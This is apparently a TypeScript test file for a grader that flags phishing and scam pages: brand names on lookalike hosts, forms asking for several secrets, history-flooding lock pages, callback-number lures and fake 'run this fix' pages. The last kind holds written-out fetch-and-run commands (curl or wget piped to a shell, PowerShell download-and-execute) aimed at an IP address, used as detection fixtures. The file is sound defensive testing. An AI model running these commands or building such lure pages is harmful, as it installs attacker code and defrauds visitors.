import { describe, expect, test } from 'bun:test'
import { BRANDS } from '../../../src/trust/data/loader.ts'
import { grade } from '../../../src/trust/grade.ts'
import { captureOf } from '../captures.ts'

const judged = (url: string, body: string) => grade(captureOf(url, { body: `<!doctype html>${body}` }))
const idsOf = (url: string, body: string) => judged(url, body).signals.map(({ id }): string => id)

const MAIL = '<form method="post"><input type="email" placeholder="Email"><button>Next</button></form>'
const HOSTS: readonly ((label: string) => string)[] = [
  (label) => `https://${label}-objects7.pages.dev/`,
  (label) => `https://${label}-objects7.com/a`,
  (label) => `https://${label}.objects7.net/`,
  (label) => `https://objects7-${label}.shop/b`,
]
const SOME = BRANDS.filter(
  ({ common_word: isWord, labels, name }) => !isWord && labels.length > 0 && name.length > 5,
)
  .filter((_, at) => at % 40 === 0)
  .map((brand) => [brand.name, brand] as const)

describe.each(SOME)('a host with %s in it', (_, { labels: [label = ''], name, domains: [domain = ''] }) => {
  const titled = `<title>${name}</title><h1>${name}</h1>${MAIL}`

  test.each(HOSTS)('is suspicious where the page bears the name and asks %#', (hostOf) => {
    expect(['suspicious', 'dangerous']).toContain(judged(hostOf(label), titled).verdict)
  })

  test('is not told of where the brand is at home, or nothing is asked', () => {
    expect(idsOf(`https://www.${domain}/`, titled)).not.toContain('content.brand_host')
    expect(idsOf(`https://${label}-objects7.com/`, `<title>${name}</title>`)).not.toContain(
      'content.brand_host',
    )
  })
})

test('a brand’s name as the tenant of a host says that it is not the brand’s, but for an organisation at GitHub', () => {
  const page = '<title>Test dapp</title>'
  expect(idsOf('https://metamask.pages.dev/', page)).toContain('url.brand_in_subdomain')
  expect(idsOf('https://metamask.github.io/test-dapp/', page)).not.toContain('url.brand_in_subdomain')
})

const PASSWORD = '<label>Password <input type="password" name="p"></label>'
const CARD = '<label>Card number <input name="cardnumber"></label><label>CVV <input name="cvv"></label>'
const CODE = '<label>Code from the SMS <input name="otp" autocomplete="one-time-code"></label>'
const NUMBER = '<label>IBAN <input name="iban"></label>'
const FREE = ['https://objects-7714.pages.dev/a', 'https://objects-7714.top/']

describe('secrets of several kinds at once', () => {
  const several = {
    'a log-in and a card': PASSWORD + CARD,
    'a card and a code': CARD + CODE,
    'a log-in, an account and a code': PASSWORD + CARD + NUMBER,
  }

  test.each(Object.entries(several))(
    '%s are asked for by frauds at an address that costs nothing',
    (_, fields) => {
      for (const url of FREE) expect(judged(url, `<title>Form</title>${fields}`).verdict).toBe('dangerous')
      expect(idsOf('https://www.harrowgate-dental.com/', fields)).not.toContain('content.several_secrets')
    },
  )

  test('a second factor beside its log-in, or a log-in by a number, is none', () => {
    for (const fields of [PASSWORD + CODE, PASSWORD + NUMBER])
      expect(idsOf(FREE[0] ?? '', fields)).not.toContain('content.several_secrets')
  })

  test('the page’s own name lowers that [T16]', () => {
    const { verdict } = judged(FREE[0] ?? '', `<title>Objects</title>${PASSWORD}${CARD}`)
    expect(verdict).toBe('suspicious')
  })
})

describe('a field that is disabled', () => {
  const drawn = (more: string) =>
    judged(
      'https://objects-7714.pages.dev/',
      `<title>Form</title><div id="f">${(PASSWORD + CARD).replaceAll('<input', '<input disabled')}</div>${more}`,
    )

  test('asks for nothing, until a script lets it be filled in', () => {
    expect(drawn('').signals.map(({ id }) => String(id))).not.toContain('content.several_secrets')
    const enables = 'document.querySelectorAll("input").forEach((one) => one.removeAttribute("disabled"))'
    for (const code of [enables, `setTimeout(() => { ${enables} }, 5000)`])
      expect(drawn(`<script>${code}</script>`).verdict).toBe('dangerous')
  })
})

const LOG_IN = `<form method="post"><input name="user" placeholder="User">${PASSWORD}<button>OK</button></form>`

test.each(['10.0.0.1', '172.16.3.4', '192.168.1.1', '[fd12::1]', '[fe80::1]'])(
  'a router at %s is neither a number in place of a name nor in the clear',
  (host) => {
    const ids = idsOf(`http://${host}/`, `<title>Router</title>${LOG_IN}`)
    expect(ids.filter((id) => ['url.ip_literal', 'content.password_over_http'].includes(id))).toEqual([])
  },
)

test.each(['11.0.0.1', '172.32.3.4', '192.169.1.1', '[2001:db9::1]'])('a host at %s is both', (host) => {
  const ids = idsOf(`http://${host}/`, `<title>Router</title>${LOG_IN}`)
  expect(ids).toEqual(expect.arrayContaining(['url.ip_literal', 'content.password_over_http']))
})

describe('a page that keeps its visitor', () => {
  const flood = '<script>setInterval(() => history.pushState(0, "", "lock"), 50)</script>'
  const told = ['You have an unpaid fine of 500 EUR', 'Your account will be suspended in 4 hours']

  test.each(told)('and says %j is dangerous', (text) => {
    expect(judged('https://objects7.net/', `<h1>${text}</h1>${flood}`).verdict).toBe('dangerous')
    expect(idsOf('https://objects7.net/', `<h1>${text}</h1>`)).not.toContain('content.locked_in')
    expect(idsOf('https://objects7.net/', `<h1>Objects</h1>${flood}`)).not.toContain('content.locked_in')
  })
})

describe('a command that fetches from an address without a name', () => {
  const commands = [
    (host: string) => `curl -s http://${host}/a.sh | bash`,
    (host: string) => `powershell -c "iwr http://${host}/a.ps1 -OutFile a.ps1; ./a.ps1"`,
    (host: string) => `curl -o z.sh http://${host}/fix && bash z.sh`,
    (host: string) => `wget -qO- https://${host}/x | sh`,
  ]
  const page = (command: string) =>
    `<h1>Your microphone cannot be heard</h1><p>Open Terminal and run</p><pre>${command.replaceAll('&', '&amp;')}</pre><button onclick="navigator.clipboard.writeText(document.querySelector('pre').innerText)">Copy</button>`

  test.each(commands)('is a trap %#', (command) => {
    expect(judged('https://us07web-objects.com/j/1', page(command('45.9.148.117'))).verdict).toBe('dangerous')
    for (const host of ['192.168.1.20', '10.1.2.3', '127.0.0.1', 'get.orchardgorse.fr'])
      expect(idsOf('https://docs.orchardgorse.fr/install', page(command(host)))).not.toContain(
        'content.clickfix',
      )
  })
})

describe('a field is one however it is made', () => {
  const KINDS: readonly ((label: string) => string)[] = [
    (label) => `<sl-input label="${label}"></sl-input>`,
    (label) => `<van-field placeholder="${label}"></van-field>`,
    (label) => `<md-outlined-text-field label="${label}"></md-outlined-text-field>`,
    (label) => `<ion-input label="${label}" type="text"></ion-input>`,
    (label) => `<div contenteditable="true" data-ph="${label}"></div>`,
    (label) => `<div role="textbox" contenteditable data-placeholder="${label}"></div>`,
    (label) => `<span contenteditable="plaintext-only" aria-placeholder="${label}"></span>`,
  ]

  test.each(KINDS)('%#', (fieldOf) => {
    const fields = ['Card number', 'Expiry date', 'CVV'].map(fieldOf).join('')
    const told = `<title>Form</title><h1>You have an unpaid fine</h1>${fields}<button>Pay</button>`
    expect(judged('https://objects-7714.top/', told).verdict).toBe('dangerous')
    expect(judged('https://objects-7714.top/', told.replaceAll(fields, '')).verdict).not.toBe('dangerous')
  })

  test('an element that is called otherwise asks for nothing', () => {
    const told =
      '<h1>You have an unpaid fine</h1><my-label label="Card number"></my-label><my-input></my-input>'
    expect(judged('https://objects-7714.top/', told).page.credential_fields).toEqual([])
  })
})

test.each(['+1 (8O8) 5O0–01 44', '+44 2O 7946 O958', '(888) 555-O1O0', '1-8OO-555-0199', '020 – 555 01 77'])(
  'the number %s is one to call, whatever its figures are written with',
  (number) => {
    const denied = (call: string) =>
      `<h1>Order</h1><p>If you did not authorise this charge, call ${call}.</p>`
    expect(idsOf('https://objects7.net/', denied(number))).toContain('content.callback_lure')
    expect(idsOf('https://objects7.net/', denied('the shop'))).not.toContain('content.callback_lure')
  },
)
